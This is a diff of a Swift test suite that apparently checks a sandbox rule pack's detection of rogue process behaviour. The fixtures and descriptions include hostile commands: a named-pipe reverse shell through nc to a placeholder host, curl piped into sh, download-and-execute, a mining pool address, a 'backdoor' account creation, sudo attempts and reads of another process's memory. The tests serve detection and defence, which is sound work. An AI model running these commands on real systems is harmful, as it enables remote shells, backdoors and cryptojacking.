@@ -81,6 +81,14 @@ func expectCaught(_ r: Pack.Run, rule: String, action: String, fixture: String, 
                      behaviour: "hidden program in /tmp connects to pool port \(pool.port)", bytes: pool.settledBytes())
     }
 
+    @Test func poolHostNameOnCommandLine() throws {
+        let box = Sandbox()
+        let r = try Pack.run(["/bin/sh", Pack.rogue + "pool_address.sh"], sandbox: box)
+        expectCaught(r, rule: "Mining pool address in command line", action: "alert", fixture: "rogue/pool_address.sh",
+                     behaviour: "program given pool.supportxmr.com:3333")
+        #expect(r.fired("Mining pool address in command line").count == 1, "once, after the exec succeeded")
+    }
+
     @Test func poolDomainLookup() throws {
         let box = Sandbox()
         let resolver = try LoopbackUDP()
@@ -170,6 +178,17 @@ func expectCaught(_ r: Pack.Run, rule: String, action: String, fixture: String, 
         #expect(c.connections == 0)
     }
 
+    @Test func namedPipeOneLiner() throws {
+        let box = Sandbox()
+        let c = try catcher()
+        defer { c.stop() }
+        let r = try Pack.run(["/bin/sh", Pack.rogue + "fifo_oneliner.sh", box.work, "\(c.port)"], sandbox: box)
+        expectCaught(r, rule: "Shell relayed through a named pipe", action: "kill", fixture: "rogue/fifo_oneliner.sh",
+                     behaviour: "sh -c \"mkfifo f; cat f | sh -i | nc HOST PORT > f\"", bytes: c.settledBytes())
+        #expect(c.connections == 0)
+        #expect(!box.exists("work/f"), "killed before mkfifo")
+    }
+
     @Test func sshRemoteForward() throws {
         let box = Sandbox()
         let target = try LoopbackServer(closeAfter: 0.3)
@@ -198,9 +217,9 @@ func expectCaught(_ r: Pack.Run, rule: String, action: String, fixture: String, 
                       ["cloudflared", "tunnel", "--url", "http://127.0.0.1:8080"]])
     func tunnelTool(argv: [String]) throws {
         let box = Sandbox()
-        let r = try Pack.run(["/bin/sh", Pack.rogue + "tunnel_tool.sh", box.work] + argv, sandbox: box)
-        #expect(!r.stdout.contains("ran"))
-        expectCaught(r, rule: "Tunnel tool launched", action: "kill", fixture: "rogue/tunnel_tool.sh \(argv[0])",
+        let r = try Pack.run(["/bin/sh", Pack.rogue + "standin.sh", box.work] + argv, sandbox: box)
+        #expect(!r.stdout.contains("rc="))
+        expectCaught(r, rule: "Tunnel tool launched", action: "kill", fixture: "rogue/standin.sh \(argv[0])",
                      behaviour: argv.joined(separator: " ") + " (stand-in binary)")
     }
 
@@ -260,6 +279,14 @@ func expectCaught(_ r: Pack.Run, rule: String, action: String, fixture: String, 
         #expect(r.stdout.contains("\(tool) rc=126"), "\(r.summary)")
     }
 
+    @Test func accountCreation() throws {
+        let box = Sandbox()
+        let r = try Pack.run(["/bin/sh", Pack.rogue + "standin.sh", box.work, "useradd", "-m", "backdoor"], sandbox: box)
+        expectCaught(r, rule: "Account management program run", action: "deny", fixture: "rogue/standin.sh useradd",
+                     behaviour: "useradd -m backdoor (stand-in binary)")
+        #expect(r.stdout == "useradd rc=126\n", "\(r.summary)")
+    }
+
     /// The tracer reports and kills what outlives the command; the pack records the detaching.
     @Test func doubleForkSurvivorIsKilled() throws {
         let box = Sandbox()
@@ -308,6 +335,14 @@ func expectCaught(_ r: Pack.Run, rule: String, action: String, fixture: String, 
                      behaviour: "cat " + file.replacingOccurrences(of: "home/agent", with: "~"))
         #expect(r.stdout == "read rc=1\n", "\(r.summary)")
         #expect(r.stderr.contains("Operation not permitted"))
+    }
+
+    @Test func otherProcessMemory() throws {
+        let box = Sandbox()
+        let r = try Pack.run(["/bin/sh", "-c", "/bin/sh \(Pack.rogue)read_secret.sh /proc/$$/mem"], sandbox: box)
+        expectCaught(r, rule: "Another process's memory opened", action: "deny", fixture: "rogue/read_secret.sh",
+                     behaviour: "open /proc/PID/mem of the parent shell")
+        #expect(r.stdout == "read rc=1\n", "\(r.summary)")
     }
 
     @Test func shadowRead() throws {
@@ -405,6 +440,29 @@ func expectCaught(_ r: Pack.Run, rule: String, action: String, fixture: String, 
         expectCaught(r, rule: "Downloaded file made executable and run", action: "alert", fixture: "rogue/download_exec.sh",
                      behaviour: "curl -o tool; chmod +x tool; ./tool")
         #expect(r.stdout == "tool rc=0\n")
+    }
+
+    @Test func curlPipedIntoShell() throws {
+        let box = Sandbox()
+        let r = try Pack.run(["/bin/sh", Pack.rogue + "curl_pipe_sh.sh"], sandbox: box)
+        expectCaught(r, rule: "Download piped into a shell", action: "alert", fixture: "rogue/curl_pipe_sh.sh",
+                     behaviour: "sh -c \"curl … | sh\"")
+        #expect(r.stdout == "pipe rc=0\n")
+    }
+
+    @Test func ownSeccompFilter() throws {
+        let box = Sandbox()
+        let r = try Pack.run([Harness.fixture("rogue_seccomp")], sandbox: box)
+        expectCaught(r, rule: "Process installs its own seccomp filter", action: "alert", fixture: "src/rogue_seccomp.c",
+                     behaviour: "seccomp(SECCOMP_SET_MODE_FILTER) with an allow-all filter")
+        #expect(r.stdout == "seccomp=0\n")
+    }
+
+    @Test func sudoAttempt() throws {
+        let box = Sandbox()
+        let r = try Pack.run(["/bin/sh", Pack.rogue + "standin.sh", box.work, "sudo", "-n", "id"], sandbox: box)
+        expectCaught(r, rule: "Privilege elevation attempted", action: "alert", fixture: "rogue/standin.sh sudo",
+                     behaviour: "sudo -n id (stand-in binary)")
     }
 
     @Test(arguments: [("module", "Kernel module loaded or removed", "finit_module"), ("bpf", "BPF program loaded", "bpf")])
